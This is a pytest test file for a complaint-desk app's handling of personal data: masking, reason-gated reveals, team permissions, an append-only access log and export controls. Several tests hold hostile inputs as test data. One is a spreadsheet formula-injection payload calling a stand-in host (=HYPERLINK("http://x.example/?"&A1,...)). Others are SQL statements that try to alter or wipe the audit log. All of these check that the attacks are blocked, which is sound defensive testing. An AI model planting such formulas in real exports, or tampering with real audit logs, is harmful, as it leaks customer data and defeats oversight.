"""Personal data on a real store: reveals need a reason and the permission, and every access is on record."""

from __future__ import annotations

import csv
import io
import json
import socket
import sqlite3
from collections.abc import Iterator
from datetime import date, timedelta
from typing import Any

import pytest
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError

from desktop.domain.deadlines import BEIJING
from desktop.domain.exchange import HeaderLanguage
from desktop.domain.masking import mask_text
from desktop.services.app import AppServices
from desktop.services.errors import NotFoundError, PermissionDeniedError, ServiceError
from desktop.services.export_policy import (
    authorize_export,
    export_complaints,
    mask_row,
    neutralise_formula,
)
from desktop.services.privacy import AccessQuery, mask_record
from tests.accounts import open_as

CASE = {
    "received_at": "2025-09-28T10:00:00+08:00",
    "channel": "hotline",
    "category": "billing",
    "customer_name": "欧阳娜娜",
    "phone": "13812345678",
    "contact_phone": "010-62345678",
    "id_number": "11010519491231002X",
    "address": "北京市海淀区中关村大街1号",
    "description": "客户称回拨13812345678无人接听，账单多扣58元。",
    "demand": "要求退还多扣费用",
}


@pytest.fixture
def other_team(db_url: str, services: AppServices) -> Iterator[AppServices]:
    seat = open_as(db_url, "outsider", role="agent", display_name="外班坐席", team="二班")
    yield seat
    seat.close()


@pytest.fixture
def team_mate(db_url: str, services: AppServices) -> Iterator[AppServices]:
    seat = open_as(db_url, "mate", role="agent", display_name="同班坐席", team="一班")
    yield seat
    seat.close()


def entries(services: AppServices, **filters: Any) -> list[Any]:
    return services.privacy.entries(services.actor, AccessQuery(**filters))


def test_masked_record_hides_every_personal_field(services: AppServices) -> None:
    record = mask_record(services.complaints.create(services.actor, CASE))
    assert (record.customer_name, record.phone, record.contact_phone) == ("欧阳**", "138****5678", "010-****5678")
    assert record.id_number == "110105********002X"
    assert record.address is not None and record.address.startswith("北京市海淀区") and "大街" not in record.address
    assert "13812345678" not in record.description and "138****5678" in record.description


def test_reveal_returns_the_value_and_records_who_where_what_why(services: AppServices) -> None:
    number = services.complaints.create(services.actor, CASE).number
    assert services.privacy.reveal(services.actor, number, "phone", " 回访  客户 ") == "13812345678"
    [entry] = entries(services)
    assert (entry.login, entry.action, entry.number, entry.field) == ("tester", "reveal", number, "phone")
    assert entry.reason == "回访 客户"
    assert entry.host == socket.gethostname()
    assert entry.at.tzinfo is not None


def test_reveal_without_reason_is_refused_and_not_recorded(services: AppServices) -> None:
    number = services.complaints.create(services.actor, CASE).number
    for reason in (None, "", "  ", "x"):
        with pytest.raises(ServiceError, match="原因"):
            services.privacy.reveal(services.actor, number, "id_number", reason)
    with pytest.raises(ServiceError):
        services.privacy.reveal(services.actor, number, "description", "回访")  # not a personal field
    assert entries(services) == []


def test_agent_of_another_team_is_refused_and_sees_nothing(services: AppServices,
                                                           other_team: AppServices) -> None:
    number = services.complaints.create(services.actor, CASE).number
    # Another team's case is "not found or not permitted": its existence is not confirmed either.
    with pytest.raises(NotFoundError) as refused:
        other_team.privacy.reveal(other_team.actor, number, "phone", "回访")
    assert "13812345678" not in str(refused.value)
    with pytest.raises(NotFoundError):
        other_team.privacy.use_without_showing(other_team.actor, number, "phone", "回访")
    assert not other_team.privacy.may_reveal(other_team.actor, number)
    assert entries(services) == []


def test_team_mate_and_own_cases_may_reveal(services: AppServices, team_mate: AppServices,
                                            other_team: AppServices) -> None:
    number = services.complaints.create(services.actor, CASE).number
    assert team_mate.privacy.reveal(team_mate.actor, number, "address", "寄送函件") == CASE["address"]
    own = other_team.complaints.create(other_team.actor, CASE).number  # assigned to its creator
    assert other_team.privacy.use_without_showing(other_team.actor, own, "phone", "回访") == "13812345678"
    assert [(e.login, e.action) for e in entries(services)] == [("outsider", "copy"), ("mate", "reveal")]


def test_only_admins_read_the_access_log(services: AppServices, team_mate: AppServices, db_url: str) -> None:
    with pytest.raises(PermissionDeniedError):
        team_mate.privacy.entries(team_mate.actor, AccessQuery())
    boss = open_as(db_url, "boss", role="supervisor")
    try:
        with pytest.raises(PermissionDeniedError):
            boss.privacy.count(boss.actor, AccessQuery())
    finally:
        boss.close()


def test_access_log_filters(services: AppServices, team_mate: AppServices) -> None:
    first = services.complaints.create(services.actor, CASE).number
    second = services.complaints.create(services.actor, CASE).number
    services.privacy.reveal(services.actor, first, "phone", "回访")
    team_mate.privacy.reveal(team_mate.actor, second, "id_number", "核实身份")
    today = date.today()
    assert len(entries(services, from_day=today - timedelta(days=1), to_day=today + timedelta(days=1))) == 2
    assert entries(services, from_day=today + timedelta(days=2)) == []
    assert [e.field for e in entries(services, login="mate")] == ["id_number"]
    assert [e.field for e in entries(services, number=second.lower())] == ["id_number"]
    assert services.privacy.count(services.actor, AccessQuery(login="tester")) == 1


def test_access_log_cannot_be_changed_through_the_database_file(services: AppServices, db_url: str) -> None:
    number = services.complaints.create(services.actor, CASE).number
    services.privacy.reveal(services.actor, number, "phone", "回访")
    connection = sqlite3.connect(db_url.removeprefix("sqlite:///"))
    try:
        for statement in ("UPDATE personal_data_access SET reason = '无'", "DELETE FROM personal_data_access"):
            with pytest.raises(sqlite3.DatabaseError, match="append-only"):
                connection.execute(statement)
    finally:
        connection.close()
    assert [e.reason for e in entries(services)] == ["回访"]


def test_export_policy_refuses_agents_and_missing_reasons(services: AppServices, team_mate: AppServices) -> None:
    with pytest.raises(PermissionDeniedError):
        authorize_export(team_mate.actor, "月度报表", unmasked=False)
    for reason in (None, ""):
        with pytest.raises(ServiceError):
            authorize_export(services.actor, reason, unmasked=False)
    assert authorize_export(services.actor, " 月度报表 ", unmasked=True) == "月度报表"


def test_formula_cells_are_neutralised() -> None:
    assert neutralise_formula('=HYPERLINK("http://x.example/?"&A1,"点击")') == \
        '\'=HYPERLINK("http://x.example/?"&A1,"点击")'
    for cell in ("+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise_formula(cell) == "'" + cell
    assert neutralise_formula("宽带 = 断网") == "宽带 = 断网"
    header = ("customer_name", "phone", "description")
    assert mask_row(header, ["张三", "13812345678", "请回拨13912345678"]) == ["张*", "138****5678", "请回拨139****5678"]


def _export(services: AppServices, *, unmasked: bool = False) -> list[dict[str, str]]:
    out = io.StringIO()
    count = export_complaints(services.sessions, services.privacy, services.actor, out, fmt="csv",
                              headers=HeaderLanguage.EN, reason="季度抽查", unmasked=unmasked)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert count == len(rows)
    return rows


def test_export_is_masked_by_default_and_recorded_with_its_row_count(services: AppServices) -> None:
    services.complaints.create(services.actor, dict(CASE, description="=HYPERLINK(\"http://evil\")"))
    services.complaints.create(services.actor, CASE)
    masked = _export(services)
    assert all("13812345678" not in cell for row in masked for cell in row.values())
    assert any(cell.startswith("'=HYPERLINK") for row in masked for cell in row.values())
    full = _export(services, unmasked=True)
    assert {row["phone"] for row in full} == {"13812345678"}
    log = entries(services)
    assert [(e.action, e.details["rows"], e.details["masked"], e.reason) for e in log] == [
        ("export", 2, False, "季度抽查"), ("export", 2, True, "季度抽查")]
    assert all(e.number is None and e.field is None for e in log)


def test_mask_text_finds_numbers_in_prose() -> None:
    masked = mask_text("回拨 13812345678、+86 139-0000-1111、010-62345678，"
                       "证件 11010519491231002X，单号 TS-20250928-0001")
    for full in ("13812345678", "1390000", "62345678", "19491231"):
        assert full not in masked
    assert "TS-20250928-0001" in masked


def test_access_log_is_append_only_on_postgresql(postgres_url: str) -> None:
    seat = open_as(postgres_url, "pgadmin", role="admin")
    try:
        number = seat.complaints.create(seat.actor, CASE).number
        seat.privacy.reveal(seat.actor, number, "phone", "回访")
        for statement in ("UPDATE personal_data_access SET reason = 'x'", "DELETE FROM personal_data_access",
                          "TRUNCATE personal_data_access CASCADE"):
            with seat.engine.connect() as connection, pytest.raises(DBAPIError, match="append-only"):
                connection.execute(text(statement))
        entry = seat.privacy.entries(seat.actor, AccessQuery())[0]
        assert entry.reason == "回访" and json.dumps(entry.details) == "{}"
        assert entry.at.astimezone(BEIJING).date() <= date.today() + timedelta(days=1)
    finally:
        seat.close()


def test_the_letter_uses_the_stored_name_not_the_mask(services: AppServices) -> None:
    record = services.complaints.create(services.actor, CASE)
    services.complaints.update(services.actor, record.number, {"investigation_notes": "核实多扣58元",
                                                               "resolution": "退还58元"}, expected_version=1)
    content = services.letters_content(record.number)
    assert content.customer_name == "欧阳娜娜"
    assert entries(services) == []  # the letter is the case's own output, not a reveal


def test_a_masked_value_sent_back_never_overwrites_the_stored_one(services: AppServices) -> None:
    record = services.complaints.create(services.actor, CASE)
    masked = mask_record(record)
    updated = services.complaints.update(services.actor, record.number, {
        "customer_name": masked.customer_name, "address": masked.address, "phone": masked.phone,
        "id_number": masked.id_number, "demand": "要求书面答复"}, expected_version=record.version)
    assert (updated.customer_name, updated.address, updated.phone, updated.id_number) == (
        CASE["customer_name"], CASE["address"], CASE["phone"], CASE["id_number"])
    assert updated.demand == "要求书面答复"
    events = services.complaints.events(record.number)
    assert set(events[-1].changes) == {"demand"}
    renamed = services.complaints.update(services.actor, record.number, {"customer_name": "欧阳某某"},
                                         expected_version=updated.version)
    assert renamed.customer_name == "欧阳某某"  # a real edit still goes through
